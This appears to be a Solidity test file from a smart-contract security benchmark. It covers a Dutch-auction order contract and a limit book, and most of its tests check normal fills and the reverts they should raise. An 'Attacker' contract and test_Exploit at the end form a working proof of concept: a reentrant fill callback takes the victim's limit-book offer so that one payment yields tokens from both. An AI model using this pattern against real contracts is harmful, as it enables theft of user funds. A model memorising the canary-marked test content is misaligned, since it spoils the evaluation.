// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-a69af9e2-8c18-4ded-b611-642faecd76ff

import "./DutchOrders.sol";
import "./context/LimitBook.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";
import {ReentrancyGuard} from "@openzeppelin/contracts@5.4.0/utils/ReentrancyGuard.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes4 why) external;
    function expectRevert(bytes calldata why) external;
    function prank(address w) external;
    function sign(uint256 key, bytes32 h) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address w) external;
    function stopPrank() external;
    function warp(uint256 t) external;
}

contract Coin is ERC20, ERC20Permit {
    address private immutable boss = msg.sender;

    constructor(string memory n) ERC20(n, n) ERC20Permit(n) {}

    function mint(address w, uint256 n) external {
        require(msg.sender == boss, "boss only");
        _mint(w, n);
    }
}

contract StockFiller is IFiller {
    function onFill(uint256, IERC20, uint256, IERC20 w, uint256, address p, bytes calldata d) external {
        w.transfer(p, abi.decode(d, (uint256)));
    }
}

/// Tries to do something else in the middle of a fill, and insists on being told to wait.
contract Meddler is IFiller {
    function onFill(uint256, IERC20, uint256, IERC20 w, uint256 q, address p, bytes calldata d) external {
        (bool ok, bytes memory why) = msg.sender.call(d);
        require(!ok && bytes4(why) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "let through");
        w.transfer(p, q);
    }
}

/// Pays for one thing only.
contract Attacker is IFiller {
    LimitBook private book;
    uint256 private offer;
    uint128 private n;

    function run(DutchOrders house, uint256 id, LimitBook b, uint256 k, uint128 a, Coin c) external {
        (book, offer, n) = (b, k, a);
        c.approve(address(b), type(uint256).max);
        house.fill(id, this, "");
    }

    function onFill(uint256, IERC20, uint256, IERC20, uint256, address, bytes calldata) external {
        book.take(offer, n);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant T = 1_773_500_000;
    uint256 private constant KEY = 0xBEE;
    address private constant TREASURY = address(0x7EA);
    address private constant KIM = address(0x1C1);

    Coin public give;
    Coin public want;
    DutchOrders public house;
    LimitBook public book;
    StockFiller public filler;
    Attacker public mal;
    address public una;
    uint256 public order;
    uint256 public offer;

    function setUp() public {
        vm.warp(T);
        give = new Coin("GIVE");
        want = new Coin("WANT");
        house = new DutchOrders(TREASURY);
        house.list(give, true);
        house.list(want, true);
        book = new LimitBook();
        filler = new StockFiller();
        mal = new Attacker();
        una = vm.addr(KEY);
        give.mint(una, 30_000e18);
        vm.startPrank(una);
        give.approve(address(house), 30_000e18);
        give.approve(address(book), 30_000e18);
        order = house.post(terms(10_000e18, 11_000e18, 9_000e18, 0));
        offer = book.place(give, 10_000e18, want, 10_000e18);
        vm.stopPrank();
        want.mint(address(mal), 10_000e18);
        want.mint(address(filler), 100_000e18);
        vm.warp(T + 5 days);
    }

    function terms(uint128 a, uint128 s, uint128 m, uint16 bps) private view returns (DutchOrders.Terms memory t) {
        t.g = give;
        t.w = want;
        (t.a, t.s, t.m, t.life, t.bps, t.to) = (a, s, m, 10 days, bps, una);
    }

    // At par, what the customer has, and what it has left in either place.
    function worth() public view returns (uint256 n) {
        n = give.balanceOf(una) + want.balanceOf(una);
        n += give.balanceOf(address(house)) + give.balanceOf(address(book));
    }

    function test_Regular() public {
        require(house.quote(order) == 10_000e18 && house.live(order), "half-way");
        uint256[] memory k = house.ordersOf(una);
        require(k.length == 1 && house.quoteMany(k)[0] == 10_000e18, "orders");
        require(house.fill(order, filler, abi.encode(10_100e18)) == 10_100e18, "filled");
        require(want.balanceOf(una) == 10_100e18 && give.balanceOf(address(filler)) == 10_000e18, "paid in full");
        require(!house.live(order) && house.ordersOf(una).length == 0, "gone");

        // Half of the surplus is left to the house.
        vm.prank(una);
        uint256 id = house.post(terms(5_000e18, 5_000e18, 4_000e18, 5_000));
        house.fill(id, filler, abi.encode(5_000e18));
        require(want.balanceOf(una) == 14_600e18 && house.due(want) == 500e18, "shared");
        require(house.collect(want) == 500e18 && want.balanceOf(TREASURY) == 500e18, "collected");

        // Reserved, amended, cancelled, expired.
        DutchOrders.Terms memory t = terms(1_000e18, 1_000e18, 800e18, 0);
        t.x = KIM;
        vm.startPrank(una);
        id = house.post(t);
        house.amend(id, 1_200e18, 900e18, 2 days);
        vm.stopPrank();
        vm.warp(T + 6 days);
        require(house.quote(id) == 1_050e18, "amended");
        house.fill(id, filler, abi.encode(1_050e18));
        k = new uint256[](2);
        vm.startPrank(una);
        id = house.post(t);
        house.cancel(id);
        k[0] = house.post(t);
        k[1] = house.post(t);
        house.cancelMany(k);
        require(give.balanceOf(una) == 4_000e18 && house.ordersOf(una).length == 0, "cancelled");
        id = house.post(t);
        vm.stopPrank();
        vm.warp(T + 16 days + 1);
        house.expire(id);
        require(give.balanceOf(una) == 4_000e18, "given back");
        permits(t);
        owners();
    }

    function permits(DutchOrders.Terms memory t) private {
        vm.prank(una);
        give.approve(address(house), 0);
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 h = keccak256(abi.encode(what, una, address(house), t.a, 0, T + 20 days));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", give.DOMAIN_SEPARATOR(), h)));
        vm.prank(una);
        uint256 id = house.postWithPermit(t, T + 20 days, v, r, s);
        vm.prank(KIM);
        house.fill(id, filler, abi.encode(1_000e18));
        require(give.balanceOf(una) == 3_000e18, "with a permit, to the one who was named");
    }

    function owners() private {
        want.mint(KIM, 10_000e18);
        vm.startPrank(KIM);
        want.approve(address(book), 10_000e18);
        require(book.take(offer, 1) == 1 && book.take(offer, 4_000e18) == 4_000e18, "taken in part");
        vm.stopPrank();
        vm.prank(una);
        book.withdraw(offer);
        require(give.balanceOf(KIM) == 4_000e18 + 1 && give.balanceOf(address(book)) == 0, "the rest is back");
        house.setMaxLife(1 days);
        house.setTreasury(KIM);
        house.list(give, false);
        require(house.maxLife() == 1 days && house.treasury() == KIM && !house.listed(give), "set");
        house.pause();
        house.unpause();
        house.transferOwnership(KIM);
        vm.startPrank(KIM);
        house.acceptOwnership();
        house.renounceOwnership();
        vm.stopPrank();
        require(house.owner() == address(0), "nobody's");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, KIM);
        house.pause();
        vm.startPrank(KIM);
        vm.expectRevert(why);
        house.unpause();
        vm.expectRevert(why);
        house.list(give, true);
        vm.expectRevert(why);
        house.setMaxLife(1 days);
        vm.expectRevert(why);
        house.setTreasury(KIM);
        vm.expectRevert(why);
        house.transferOwnership(KIM);
        vm.expectRevert(why);
        house.acceptOwnership();
        vm.expectRevert(why);
        house.renounceOwnership();
        vm.stopPrank();
        house.unpause();
        vm.prank(KIM);
        vm.expectRevert(why);
        house.pause();
    }

    function test_RefusesOtherOwners() public {
        uint256[] memory k = new uint256[](1);
        k[0] = order;
        vm.startPrank(KIM);
        vm.expectRevert(DutchOrders.NotOwner.selector);
        house.cancel(order);
        vm.expectRevert(DutchOrders.NotOwner.selector);
        house.cancelMany(k);
        vm.expectRevert(DutchOrders.NotOwner.selector);
        house.amend(order, 2, 1, 1 days);
        vm.expectRevert(LimitBook.NotOwner.selector);
        book.withdraw(offer);
        vm.stopPrank();
    }

    function meddle(bytes memory d) private {
        Meddler m = new Meddler();
        want.mint(address(m), 10_000e18);
        require(house.fill(order, m, d) == 10_000e18, "filled all the same");
    }

    function test_RefusesToPostMeanwhile() public {
        meddle(abi.encodeCall(house.post, (terms(1, 1, 1, 0))));
    }

    function test_RefusesToPostWithPermitMeanwhile() public {
        meddle(abi.encodeCall(house.postWithPermit, (terms(1, 1, 1, 0), 0, 0, 0, 0)));
    }

    function test_RefusesToCancelMeanwhile() public {
        meddle(abi.encodeCall(house.cancel, (order)));
    }

    function test_RefusesToCancelManyMeanwhile() public {
        meddle(abi.encodeCall(house.cancelMany, (new uint256[](0))));
    }

    function test_RefusesToExpireMeanwhile() public {
        meddle(abi.encodeCall(house.expire, (order)));
    }

    function test_RefusesToFillMeanwhile() public {
        meddle(abi.encodeCall(house.fill, (order, filler, "")));
    }

    function test_RefusesToCollectMeanwhile() public {
        meddle(abi.encodeCall(house.collect, (want)));
    }

    function bad(DutchOrders.Terms memory t, bytes4 why) private {
        vm.prank(una);
        vm.expectRevert(why);
        house.post(t);
    }

    function test_RefusesTerms() public {
        bytes4 why = DutchOrders.BadTerms.selector;
        bad(terms(0, 2, 1, 0), why);
        bad(terms(1, 2, 0, 0), why);
        bad(terms(1, 1, 2, 0), why);
        bad(terms(1, 2, 1, 10_001), why);
        DutchOrders.Terms memory t = terms(1, 2, 1, 0);
        t.w = give;
        bad(t, why);
        t = terms(1, 2, 1, 0);
        t.to = address(0);
        bad(t, why);
        t.to = address(house);
        bad(t, why);
        t = terms(1, 2, 1, 0);
        t.life = 1 hours - 1;
        bad(t, DutchOrders.BadLife.selector);
        t.life = 60 days + 1;
        bad(t, DutchOrders.BadLife.selector);
        t = terms(1, 2, 1, 0);
        t.g = new Coin("OTHER");
        bad(t, DutchOrders.NotListed.selector);
        t = terms(1, 2, 1, 0);
        t.w = new Coin("OTHER");
        bad(t, DutchOrders.NotListed.selector);
        vm.prank(una);
        vm.expectRevert();
        house.post(terms(10_001e18, 2, 1, 0));
    }

    function test_RefusesAmendments() public {
        vm.startPrank(una);
        vm.expectRevert(DutchOrders.BadTerms.selector);
        house.amend(order, 1, 0, 1 days);
        vm.expectRevert(DutchOrders.BadTerms.selector);
        house.amend(order, 1, 2, 1 days);
        vm.expectRevert(DutchOrders.BadLife.selector);
        house.amend(order, 2, 1, 61 days);
        vm.stopPrank();
    }

    function test_RefusesPayments() public {
        vm.expectRevert(DutchOrders.Short.selector);
        house.fill(order, filler, abi.encode(10_000e18 - 1));
        vm.prank(una);
        uint256 id = house.post(terms(1e18, 1e18, 1e18, 1));
        vm.expectRevert(DutchOrders.Short.selector);
        house.fill(id, filler, abi.encode(1e18 - 1));
        house.fill(order, filler, abi.encode(10_000e18));
        vm.expectRevert(DutchOrders.NoOrder.selector);
        house.fill(order, filler, abi.encode(10_000e18));
    }

    function test_RefusesReservedOrders() public {
        DutchOrders.Terms memory t = terms(1_000e18, 1_000e18, 800e18, 0);
        t.x = KIM;
        vm.prank(una);
        uint256 id = house.post(t);
        vm.warp(T + 5 days + 15 minutes - 1);
        vm.expectRevert(DutchOrders.Reserved.selector);
        house.fill(id, filler, abi.encode(1_000e18));
        vm.warp(T + 5 days + 15 minutes);
        house.fill(id, filler, abi.encode(1_000e18));
    }

    function test_RefusesTheWrongTime() public {
        vm.warp(T + 10 days);
        vm.expectRevert(DutchOrders.NotExpired.selector);
        house.expire(order);
        vm.expectRevert(DutchOrders.NoOrder.selector);
        house.expire(99);
        require(house.quote(order) == 9_000e18, "at the end");
        vm.warp(T + 10 days + 1);
        vm.expectRevert(DutchOrders.Expired.selector);
        house.fill(order, filler, abi.encode(9_000e18));
    }

    function test_RefusesWhenPaused() public {
        house.pause();
        vm.startPrank(una);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        house.post(terms(1, 2, 1, 0));
        vm.expectRevert(Pausable.EnforcedPause.selector);
        house.postWithPermit(terms(1, 2, 1, 0), 0, 0, 0, 0);
        vm.stopPrank();
    }

    function test_RefusesSettings() public {
        vm.expectRevert(DutchOrders.BadLife.selector);
        house.setMaxLife(1 hours - 1);
        vm.expectRevert(DutchOrders.BadLife.selector);
        house.setMaxLife(180 days + 1);
        vm.expectRevert(Fees.NoTreasury.selector);
        house.setTreasury(address(0));
        vm.expectRevert(Fees.NoTreasury.selector);
        new DutchOrders(address(0));
    }

    function test_RefusesOffers() public {
        vm.expectRevert(LimitBook.BadOffer.selector);
        book.place(give, 1, give, 1);
        vm.expectRevert(LimitBook.BadOffer.selector);
        book.place(give, 0, want, 1);
        vm.expectRevert(LimitBook.BadOffer.selector);
        book.place(give, 1, want, 0);
        vm.expectRevert(LimitBook.BadOffer.selector);
        book.take(offer, 0);
        vm.expectRevert(LimitBook.BadOffer.selector);
        book.take(offer, 10_000e18 + 1);
    }

    function exploit() public {
        mal.run(house, order, book, offer, 10_000e18, want);
    }

    function test_Exploit() public {
        uint256 before = worth();
        exploit();
        require(worth() + 9_000e18 <= before, "paid for both");
        require(give.balanceOf(address(mal)) == 20_000e18, "given of both");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(mal);
    }
}
